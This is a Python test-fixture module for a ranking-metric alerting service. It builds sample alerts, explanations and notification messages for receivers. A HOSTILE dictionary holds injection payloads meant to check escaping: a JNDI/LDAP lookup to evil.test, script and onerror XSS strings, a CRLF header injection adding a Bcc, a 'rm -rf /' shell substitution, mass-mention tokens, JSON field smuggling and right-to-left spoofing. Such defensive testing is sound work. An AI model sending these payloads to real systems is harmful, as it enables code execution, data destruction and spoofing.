"""Messages for tests, each complete, each field open to change, hostile names, and receivers that send messages."""

from dataclasses import replace
from datetime import timedelta
from functools import partial

from factories import DAY, SLOT, transition
from monitor.model.alerts import State
from monitor.model.explanation import (
    Change,
    DropPart,
    ExampleLists,
    Explanation,
    ExposedItem,
    Finding,
    PartAmount,
    UserGroup,
)
from monitor.model.notifications import Briefing, Message
from monitor.model.rankings import Arm
from monitor.model.rules import Severity
from monitor.receivers import ReceiverOptions, open_receivers

URL = "http://rankwatch.test:29108"
WHY = "No clear cause. Similarity fell by 0.2500: items replaced 62 %, items moved 38 %."
INCIDENT = "home-feed:critical:2024-01-08"
LABELS = {"alertname": "SimilarityLow", "comparison": "home-feed", "segment": "all", "severity": "critical"} | {
    "metric": "extended_tau", "statistic": "mean", "team": "ranking"
}  # fmt: skip
HOSTILE = {
    "template": "{{ .Labels }}${jndi:ldap://evil.test/a}%(x)s{0}",
    "mention": "<!channel><!here><@U0001><#C0001><!subteam^S1> @channel @here @everyone",
    "link": (
        "<https://evil.test|runbook> [x](https://evil.test) https://evil.test/?q=1 "
        "javascript:alert(1)"
    ),
    "html": "</td><script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
    "header": "x\r\nBcc: evil@evil.test\r\n\r\nbody",
    "shell": "$(rm -rf /); `id` && 'x' | \"y\" \\",
    "fence": "``` *bold* _it_ ~no~ `code` > quote\n```",
    "controls": "a\x00b\x1b[31mc\x7f\x85d\u2028e\ud800f",
    "right to left": (
        "\u202egnp.exe\u2066\u05d0\u05d1\u05d2 0.99 \u0645\u0631\u062d\u0628\u0627 1 < 2"
    ),
    "json": '","routing_key":"evil","x":"',
    "huge": "x" * 1_000_000,
    "wide": "\U0001f600" * 250_000,
}


def start(**changes):
    """`SimilarityLow` begins to fire for all users."""
    return transition(
        **{
            "explanation": WHY,
            "interval": (0.24, 0.268),
            "normal": 0.61,
            "incident": INCIDENT,
            **changes,
        }
    )


def end(**changes):
    """The same firing ends a day later."""
    ended = {
        "slot": SLOT + DAY,
        "at": SLOT + timedelta(days=1, seconds=5),
        "from_state": State.FIRING,
        "to_state": State.QUIET,
        "value": 0.6,
        "reason": "mean of extended_tau is 0.6 again",
    }
    return start(**{"explanation": None, "interval": None, **ended, **changes})


def acknowledgement(**changes):
    return start(
        **{
            "explanation": None,
            "from_state": State.FIRING,
            "reason": "acknowledged by ann: looking",
            **changes,
        }
    )


def message(*changes, **fields):
    """A message about these changes. What starts in it still fires, unless another is given."""
    firing = tuple(change for change in changes if not change.is_end)
    base = Message(
        incident=INCIDENT,
        comparison="home-feed",
        severity=Severity.CRITICAL,
        changes=changes,
        firing=firing,
    )
    return replace(base, **fields)


def repetition(*firing, **fields):
    return message(firing=firing, is_repetition=True, **fields)


def many(count, **changes):
    """So many segments begin to fire in one run."""
    return tuple(
        start(segment=f"shop={n:04d}", value=0.3 - n / 10_000, dedup_key=f"{n:032x}", **changes)
        for n in range(count)
    )


def exposed(item, title=None, **changes):
    """An item that the candidate shows more often than the baseline."""
    base = ExposedItem(
        item=item, title=title, before=0.1, after=0.7, share_before=0.03, share_after=0.61
    )
    return replace(base, **changes)


def finding(kind, **changes):
    """A fault of the candidate that concerns 60 of 200 users."""
    base = Finding(
        kind=kind, arms=(Arm.CANDIDATE,), segment="all", segment_share=1.0, users=60, compared=200
    )
    return replace(base, **changes)


explanation = partial(
    Explanation,
    metric="extended_tau",
    sentence=WHY,
    segment="all",
    now=0.5,
    before=0.25,
    gained=(exposed("sku-1", "Red shoes"),),
    lost=(exposed("sku-2", before=0.7, after=0.0, share_before=0.7, share_after=0.0),),
    entered=14,
    left=1,
    groups=(),
    causes=(
        PartAmount(part=DropPart.MEMBERSHIP, amount=0.155),
        PartAmount(part=DropPart.ORDER, amount=0.095),
    ),
)


def briefing(**changes):
    """The explanation, and the lists of two users."""
    examples = (
        ExampleLists(
            user="u-17",
            baseline=("sku-2", "sku-3", "sku-5", "sku-4", "sku-6"),
            candidate=("sku-1", "sku-3", "sku-4", "sku-5"),
        ),
        ExampleLists(
            user="u-42",
            baseline=tuple(f"i{n}" for n in range(12)),
            candidate=tuple(f"j{n}" for n in range(10)),
        ),
    )
    return replace(Briefing(explanation=explanation(), examples=examples), **changes)


def briefing_on(kind, **changes):
    """The briefing of a message about this fault, without users."""
    return briefing(explanation=explanation(finding=finding(kind, **changes)), examples=())


def hostile_message(text):
    """All text from outside is ``text``, and so are names that the configuration would refuse."""
    item = exposed(text, text)
    lists = ExampleLists(user=text, baseline=(text, "b"), candidate=(text,))
    group = UserGroup(
        change=Change.REPLACED,
        users=1,
        share=1.0,
        share_before=None,
        distance=0.5,
        examples=(lists,),
    )
    hostile = explanation(
        sentence=text, segment=text, gained=(item,), lost=(item,), groups=(group,), metric=text
    )
    names = "comparison alert segment reason metric statistic explanation runbook_url"
    change = start(**dict.fromkeys(names.split(), text), labels={"team": text})
    return message(
        change, comparison=text, briefing=Briefing(explanation=hostile, examples=(lists, lists))
    )


EVERYBODY, BRITISH = start(), start(segment="country=UK", dedup_key="uk")
FIRING, ENDED, SEEN = EVERYBODY, end(), acknowledgement()
START, END = message(FIRING), message(ENDED)


def opened(**options):
    """The receiver of this entry, opened as the daemon opens it."""
    (receiver,) = open_receivers([ReceiverOptions.model_validate(options)], external_url=URL)
    return receiver


def send(*messages, **options):
    """Send all of them through one receiver."""
    receiver = opened(**options)
    for each in messages:
        receiver.send(each, now=SLOT)
